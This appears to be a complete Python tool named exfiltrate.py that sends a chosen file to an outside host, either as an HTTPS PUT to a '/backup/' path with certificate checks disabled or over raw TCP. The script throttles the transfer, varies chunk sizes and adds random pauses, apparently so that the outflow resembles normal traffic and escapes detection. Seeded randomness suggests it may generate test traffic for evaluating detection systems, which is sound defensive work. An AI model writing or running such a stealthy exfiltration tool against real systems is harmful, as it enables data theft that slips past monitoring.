"""Sends a file away at a bounded rate: exfiltrate.py MANNER TARGET PORT FILE OCTETS_PER_SECOND SEED.

MANNER  https   PUT to https://TARGET:PORT, one request
        raw     one TCP connection in pieces of changing size, with pauses
"""
import http.client
import os
import random
import socket
import ssl
import sys
import time

manner, target, port, file, rate, seed = sys.argv[1:]
chance = random.Random(int(seed))


def pieces():
    with open(file, 'rb') as source:
        while True:
            began = time.monotonic()
            piece = source.read(chance.randint(2_000, max(4_000, int(rate) // 4)))
            if not piece:
                return
            yield piece
            time.sleep(max(0, len(piece) / int(rate) - (time.monotonic() - began)))


if manner == 'https':
    connection = http.client.HTTPSConnection(target, int(port), timeout=60, context=ssl._create_unverified_context())
    connection.request('PUT', f'/backup/{chance.randint(1, 9_999)}', body=pieces(), headers={'Content-Length': str(os.path.getsize(file))})
    print('answer', connection.getresponse().status)
else:
    with socket.create_connection((target, int(port)), 20) as connection:
        for piece in pieces():
            connection.sendall(piece)
            if chance.random() < 0.03:
                time.sleep(chance.uniform(0.5, 5))
